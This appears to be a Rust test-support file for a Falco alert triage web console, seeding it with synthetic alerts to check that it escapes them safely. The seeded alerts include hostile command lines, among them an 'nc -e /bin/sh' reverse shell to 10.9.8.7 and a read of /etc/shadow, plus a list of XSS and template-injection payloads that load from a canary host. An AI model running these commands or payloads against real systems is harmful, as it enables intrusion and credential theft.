//! Shared by the console tests: a real service on 127.0.0.1 with console users, a realistic
//! store (attack chains, benign storms, hostile payloads, rejected lines), and a small
//! cookie-aware HTTP client.
#![allow(dead_code)]

use fa_server::ui::{hash_password, Role, UserConfig};
use fa_server::{start, Config, RunningServer};
use serde_json::json;
use std::time::{Duration, Instant};

pub const TOKEN: &str = "console-test-token-0123456789";
pub const PASSWORD: &str = "correct horse battery staple";

pub struct Svc {
    pub srv: Option<RunningServer>,
    pub base: String,
    pub client: reqwest::Client,
    pub dir: tempfile::TempDir,
}

/// Users alice (triager), victor (viewer) and root (admin), all with [`PASSWORD`].
pub fn users() -> Vec<UserConfig> {
    let h = hash_password(PASSWORD).unwrap();
    [
        ("alice", Role::Triager),
        ("victor", Role::Viewer),
        ("root", Role::Admin),
    ]
    .into_iter()
    .map(|(n, r)| UserConfig {
        name: n.into(),
        role: r,
        password_hash: h.clone(),
    })
    .collect()
}

impl Svc {
    pub async fn start(tweak: impl FnOnce(&mut Config)) -> Svc {
        Self::start_in(tempfile::tempdir().unwrap(), tweak).await
    }

    pub async fn start_in(dir: tempfile::TempDir, tweak: impl FnOnce(&mut Config)) -> Svc {
        let mut cfg = Config::default();
        cfg.server.listen = "127.0.0.1:0".into();
        cfg.auth.token = Some(TOKEN.into());
        cfg.store.path = dir.path().join("fa.db");
        cfg.server.shutdown_timeout = Duration::from_secs(10);
        cfg.ui.users = users();
        tweak(&mut cfg);
        let srv = start(cfg).await.unwrap();
        let base = format!("http://{}", srv.local_addr);
        let client = reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap();
        Svc {
            srv: Some(srv),
            base,
            client,
            dir,
        }
    }

    pub fn srv(&self) -> &RunningServer {
        self.srv.as_ref().unwrap()
    }

    pub async fn ingest(&self, lines: &[String]) {
        for chunk in lines.chunks(500) {
            let r = self
                .client
                .post(format!("{}/api/v1/alerts", self.base))
                .bearer_auth(TOKEN)
                .body(chunk.join("\n"))
                .send()
                .await
                .unwrap();
            assert!(
                r.status().is_success() || r.status() == 422 || r.status() == 400,
                "ingest answered {}",
                r.status()
            );
        }
    }

    pub async fn stats(&self) -> serde_json::Value {
        self.client
            .get(format!("{}/api/v1/stats", self.base))
            .bearer_auth(TOKEN)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    }

    /// Wait until everything received is analysed and stored.
    pub async fn settle(&self) {
        let t = Instant::now();
        loop {
            let s = self.stats().await;
            if self.srv().queue_depth() == 0 && s["store"]["unanalyzed"] == 0 {
                break;
            }
            assert!(
                t.elapsed() < Duration::from_secs(240),
                "analysis did not finish: {s}"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    pub async fn stop(mut self) -> tempfile::TempDir {
        let srv = self.srv.take().unwrap();
        srv.shutdown();
        srv.wait().await.unwrap();
        self.dir
    }

    /// Sign in through the form; the session cookie and the page's CSRF token.
    pub async fn login(&self, user: &str) -> Browser {
        let r = self
            .client
            .post(format!("{}/ui/login", self.base))
            .form_(&[("user", user), ("password", PASSWORD), ("next", "/ui/")])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "sign-in of {user}");
        let cookie = r
            .headers()
            .get("set-cookie")
            .unwrap()
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_string();
        let mut b = Browser {
            base: self.base.clone(),
            client: self.client.clone(),
            cookie,
            csrf: String::new(),
        };
        let page = b.get("/ui/").await;
        assert_eq!(page.0, 200);
        b.csrf = meta_csrf(&page.1).expect("the page carries its CSRF token");
        b
    }
}

/// `application/x-www-form-urlencoded` bodies (reqwest is built without its `form` feature).
pub trait FormExt {
    fn form_(self, pairs: &[(&str, &str)]) -> Self;
}

fn form_enc(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            b' ' => "+".to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

impl FormExt for reqwest::RequestBuilder {
    fn form_(self, pairs: &[(&str, &str)]) -> Self {
        let body: Vec<String> = pairs
            .iter()
            .map(|(k, v)| format!("{}={}", form_enc(k), form_enc(v)))
            .collect();
        self.header("content-type", "application/x-www-form-urlencoded")
            .body(body.join("&"))
    }
}

/// The `<meta name="csrf-token">` of a page.
pub fn meta_csrf(html: &str) -> Option<String> {
    let i = html.find(r#"<meta name="csrf-token" content=""#)?;
    let rest = &html[i + r#"<meta name="csrf-token" content=""#.len()..];
    Some(rest[..rest.find('"')?].to_string())
}

/// A signed-in client: its cookie and CSRF token.
#[derive(Clone)]
pub struct Browser {
    pub base: String,
    pub client: reqwest::Client,
    pub cookie: String,
    pub csrf: String,
}

impl Browser {
    pub async fn get(&self, path: &str) -> (u16, String) {
        let r = self
            .client
            .get(format!("{}{path}", self.base))
            .header("cookie", &self.cookie)
            .send()
            .await
            .unwrap();
        // minijinja escapes `/` as `&#x2f;`; links are easier to find with it decoded (which
        // turns no escaped markup into markup).
        let status = r.status().as_u16();
        let html = r.text().await.unwrap().replace("&#x2f;", "/");
        (status, html)
    }
}

fn now_rfc3339(offset_s: i64) -> String {
    (chrono::Utc::now() - chrono::Duration::seconds(offset_s))
        .format("%Y-%m-%dT%H:%M:%S%.9fZ")
        .to_string()
}

#[allow(clippy::too_many_arguments)]
fn falco(
    uuid: &str,
    rule: &str,
    prio: &str,
    ago_s: i64,
    host: &str,
    container: &str,
    image: &str,
    ns: &str,
    pod: &str,
    cmdline: &str,
    extra: serde_json::Value,
) -> String {
    let time = now_rfc3339(ago_s);
    let proc = cmdline.split(' ').next().unwrap_or("sh");
    let mut fields = json!({
        "container.id": container,
        "container.name": pod,
        "container.image.repository": image,
        "container.image.tag": "latest",
        "k8s.ns.name": ns,
        "k8s.pod.name": pod,
        "proc.cmdline": cmdline,
        "proc.name": proc,
        "proc.exepath": format!("/usr/bin/{proc}"),
        "proc.pname": "bash",
        "user.name": "root",
        "user.uid": 0,
        "evt.type": "execve",
    });
    if let (Some(f), Some(e)) = (fields.as_object_mut(), extra.as_object()) {
        f.extend(e.clone());
    }
    json!({
        "uuid": uuid,
        "time": time,
        "rule": rule,
        "priority": prio,
        "source": "syscall",
        "hostname": host,
        "tags": ["container", "mitre_execution"],
        "output": format!("{time}: {prio} {rule} (user=root command={cmdline} container_id={container} image={image})"),
        "output_fields": fields,
    })
    .to_string()
}

/// Thousands of alerts from the last hour: attack chains on a few pods (shell, credential
/// read, dropped binary, network tool), benign storms (Falco's event-generator, log
/// rotation), a noisy suspicious storm, and hostile payloads in every field when
/// `canary` (an address that counts connections) is given.
pub fn realistic(storm: usize, canary: Option<&str>) -> Vec<String> {
    let mut out = Vec::new();
    // Attack chains: the same steps on three pods, minutes apart.
    for (k, pod) in ["checkout-7d9f", "payments-5c2a", "cart-1b3e"]
        .iter()
        .enumerate()
    {
        let c = format!("a{k}c0ffee{k:04}");
        let img = "docker.io/shop/web";
        let steps = [
            (
                "Terminal shell in container",
                "Notice",
                "bash -i",
                json!({"proc.tty": 34816}),
            ),
            (
                "Read sensitive file untrusted",
                "Warning",
                "cat /etc/shadow",
                json!({"fd.name": "/etc/shadow", "evt.type": "openat"}),
            ),
            (
                "Drop and execute new binary in container",
                "Critical",
                "/tmp/.x/kworker -c 10.9.8.7",
                json!({"proc.exepath": "/tmp/.x/kworker", "proc.is_exe_upper_layer": true}),
            ),
            (
                "Launch Suspicious Network Tool in Container",
                "Notice",
                "nc -e /bin/sh 10.9.8.7 4444",
                json!({}),
            ),
        ];
        for (j, (rule, prio, cmd, extra)) in steps.into_iter().enumerate() {
            for r in 0..3 {
                out.push(falco(
                    &format!("00000000-0000-4000-8000-{k:04}{j:04}{r:04}"),
                    rule,
                    prio,
                    1800 - (k as i64) * 600 - (j as i64) * 60 - r,
                    &format!("node-{k}"),
                    &c,
                    img,
                    "shop",
                    pod,
                    cmd,
                    extra.clone(),
                ));
            }
        }
    }
    // Benign storm: Falco's own event-generator, the known test tool.
    for i in 0..storm {
        out.push(falco(
            &format!("11111111-0000-4000-8000-{i:012}"),
            "Read sensitive file untrusted",
            "Warning",
            3000 - (i as i64 % 3000),
            "node-9",
            "e1e1e1e1e1e1",
            "docker.io/falcosecurity/event-generator",
            "falco",
            "event-generator",
            "event-generator run syscall --loop",
            json!({"fd.name": "/etc/shadow", "evt.type": "openat", "proc.name": "event-generator", "proc.exepath": "/bin/event-generator"}),
        ));
    }
    // A noisy suspicious storm: shells in one web pod.
    for i in 0..storm / 2 {
        out.push(falco(
            &format!("22222222-0000-4000-8000-{i:012}"),
            "Terminal shell in container",
            "Notice",
            3500 - (i as i64 % 3400),
            &format!("node-{}", i % 4),
            &format!("b0b0b0b0{:04}", i % 7),
            "docker.io/library/nginx",
            "web",
            &format!("nginx-{}", i % 7),
            "sh -c date",
            json!({"proc.tty": 34816}),
        ));
    }
    if let Some(canary) = canary {
        out.extend(hostile(canary));
    }
    out
}

/// The strings a hostile alert carries: each would run script, load something from
/// `canary`, or change the title if it were rendered as markup.
pub fn payloads(canary: &str) -> Vec<String> {
    vec![
        "<script>window.__pwned=1;document.title='pwned'</script>".into(),
        r#""><img src=x onerror="window.__pwned=2">"#.into(),
        "javascript:window.__pwned=3".into(),
        format!("<img src=\"http://{canary}/img.png\">"),
        format!("<style>body{{background:url(http://{canary}/css)}}</style>"),
        format!("[click](javascript:window.__pwned=4) ![x](http://{canary}/md.png)"),
        "</title><script>document.title='pwned'</script>".into(),
        format!("<iframe src=\"http://{canary}/frame\"></iframe><svg onload=window.__pwned=5>"),
        format!("<link rel=stylesheet href=\"http://{canary}/link.css\"><a href=\"javascript:window.__pwned=6\">x</a>"),
        "{{ 7*7 }}{% raw %}<b>jinja</b>".into(),
    ]
}

/// Alerts with a payload in every field: rule, hostname, output, command line, container,
/// image, namespace, pod, user, file name, tags.
pub fn hostile(canary: &str) -> Vec<String> {
    payloads(canary)
        .into_iter()
        .enumerate()
        .flat_map(|(i, p)| {
            (0..2).map(move |r| {
                let time = now_rfc3339(120 + i as i64 * 10 + r);
                json!({
                    "uuid": format!("33333333-0000-4000-8000-{i:06}{r:06}"),
                    "time": time,
                    "rule": format!("Hostile {i} {p}"),
                    "priority": "Critical",
                    "source": "syscall",
                    "hostname": format!("h{i}{p}"),
                    "tags": [p.clone(), "mitre_execution"],
                    "output": format!("{time}: Critical {p} (command={p})"),
                    "output_fields": {
                        "container.id": format!("dead{i:08}"),
                        "container.name": p.clone(),
                        "container.image.repository": p.clone(),
                        "k8s.ns.name": format!("ns{i}{p}"),
                        "k8s.pod.name": p.clone(),
                        "proc.cmdline": format!("sh -c {p}"),
                        "proc.name": "sh",
                        "proc.pname": p.clone(),
                        "user.name": p.clone(),
                        "fd.name": p.clone(),
                        "evt.type": "execve",
                    },
                })
                .to_string()
            })
        })
        .collect()
}

/// Lines ingest rejects (the dead letters page shows them escaped).
pub fn rejected(canary: &str) -> Vec<String> {
    vec![
        format!("{{\"rule\": \"<script>window.__pwned=7</script>\", \"priority\": <img src=http://{canary}/dl>"),
        "{\"priority\": \"Warning\", \"output\": \"no rule here\"}".into(),
    ]
}
